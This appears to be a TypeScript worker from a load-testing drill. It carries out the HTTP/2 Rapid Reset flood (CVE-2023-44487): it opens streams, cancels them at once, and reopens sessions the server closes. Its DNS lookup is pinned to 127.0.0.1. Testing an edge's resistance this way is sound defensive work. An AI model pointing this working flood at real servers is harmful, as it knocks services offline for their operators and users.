// Owns a process that opens HTTP/2 streams and takes each back at once (CVE-2023-44487). Started by rows/06-rapid-reset.ts.

import { type ClientHttp2Session, connect, constants } from 'node:http2';

/** From the drill. */
export interface ResetSettings {
  readonly url: string;
  readonly path: string;
  readonly sessions: number;
  readonly ca: string;
}

/** To the drill, all half seconds. */
export interface ResetFigures {
  readonly streams: number;
  readonly sessions: number;
  /** Sessions that the server ended: it had enough. */
  readonly ended: number;
}

/** As many as the edge allows at a time; more would wait here. */
const STREAMS_A_TURN = 32;
const figures = { streams: 0, sessions: 0, ended: 0 };

process.on('disconnect', () => process.exit());
process.on('message', (settings: ResetSettings) => {
  for (let at = 0; at < settings.sessions; at += 1) open(settings);
  const tell = () => process.send?.({ ...figures });
  tell();
  setInterval(tell, 500);
});

function open(settings: ResetSettings): void {
  const session = connect(settings.url, {
    ca: settings.ca,
    lookup: (_name, options, found) => here(options, found),
  });
  figures.sessions += 1;
  session.on('error', () => {});
  session.on('connect', () => flood(session, settings.path));
  session.on('close', () => {
    figures.ended += 1;
    setTimeout(() => open(settings), 20);
  });
}

type Found = (
  error: Error | null,
  address: string | { address: string; family: number }[],
  family?: number,
) => void;

function here(options: { readonly all?: boolean | undefined }, found: Found): void {
  if (options.all) found(null, [{ address: '127.0.0.1', family: 4 }]);
  else found(null, '127.0.0.1', 4);
}

function flood(session: ClientHttp2Session, path: string): void {
  if (session.closed || session.destroyed) return;
  const streams = Array.from({ length: STREAMS_A_TURN }, () => session.request({ ':path': path }));
  figures.streams += streams.length;
  for (const stream of streams) stream.on('error', () => {});
  // In the next turn, when they are on the wire: a stream that was taken back before never leaves this process.
  setImmediate(() => {
    for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
    setImmediate(() => flood(session, path));
  });
}
